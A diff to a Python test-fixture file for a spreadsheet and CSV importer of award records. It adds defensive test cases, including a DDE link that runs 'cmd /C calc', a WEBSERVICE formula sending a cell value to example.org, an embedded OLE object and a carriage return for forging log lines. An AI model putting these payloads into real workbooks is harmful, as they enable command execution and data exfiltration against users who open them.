@@ -1,14 +1,19 @@
 """Files that look odd and mean one thing: what must be stored of each stands beside it."""
 
 import datetime
+import io
 import re
 import unicodedata
 from dataclasses import dataclass
 from decimal import Decimal
 from typing import Any
 
+import openpyxl
+from openpyxl.chart import BarChart
+
 from tests.sheets.making import (
     BOOK,
+    MAIN,
     SHEET,
     Formula,
     Page,
@@ -74,6 +79,21 @@ def raw(rows: str, after: str = "") -> bytes:
     return repacked(one_page(HEAD), {SHEET: sheet_xml(rows, after)})
 
 
+DDE = (
+    f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc">'
+    '<ddeItems><ddeItem name="A1"/></ddeItems></ddeLink></externalLink>'
+)
+
+
+def with_a_chart(content: bytes) -> bytes:
+    """The workbook with a page that is a chart and has no cells."""
+    made = openpyxl.load_workbook(io.BytesIO(content))
+    made.create_chartsheet("Biểu đồ").add_chart(BarChart())
+    buffer = io.BytesIO()
+    made.save(buffer)
+    return buffer.getvalue()
+
+
 def with_amount(amount: Any) -> list[list[Any]]:
     return [HEAD, SAO_MAI, changed(DAO, 7, amount), ANH]
 
@@ -114,6 +134,13 @@ TEXT_FILES = {
     ),
     "a line break inside a name": awards(
         plain().replace("CĐCS Sao Mai", '"CĐCS\nSao Mai"')
+    ),
+    "a carriage return inside a name, as to forge a line of a log": awards(
+        plain().replace("CĐCS Sao Mai", '"CĐCS\rSao Mai"')
+    ),
+    "noughts at the front of a text": awards(
+        plain().replace("Sở Y tế", "0012"),
+        stored=[("collective", "CĐCS Sao Mai", "", "0012", 3_120_000), *STORED[1:]],
     ),
     "blank lines between": awards(text(HEAD, [], SAO_MAI, [], [], DAO, ANH)),
     "lines of separators alone": awards(plain() + ";;;;;;;\r\n" * 30),
@@ -289,6 +316,22 @@ WORKBOOKS = {
         book(
             Page([[*HEAD, "Ngày quyết định"], *[[*row, DAY(2024, 1, 5)] for row in ROWS]]),
             date_1904=True,
+        )
+    ),
+    "links to other files": awards(
+        repacked(one_page(HEAD, *ROWS), {"xl/externalLinks/externalLink1.xml": DDE})
+    ),
+    "an embedded object": awards(
+        repacked(
+            one_page(HEAD, *ROWS),
+            {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
+        )
+    ),
+    "a sheet of a chart": awards(with_a_chart(one_page(HEAD, *ROWS))),
+    "a formula that calls out, with its value": awards(
+        one_page(
+            HEAD, SAO_MAI,
+            changed(DAO, 5, Formula('=WEBSERVICE("http://example.org/?"&A1)', "Kế toán")), ANH,
         )
     ),
     "a workbook without a table of strings": awards(
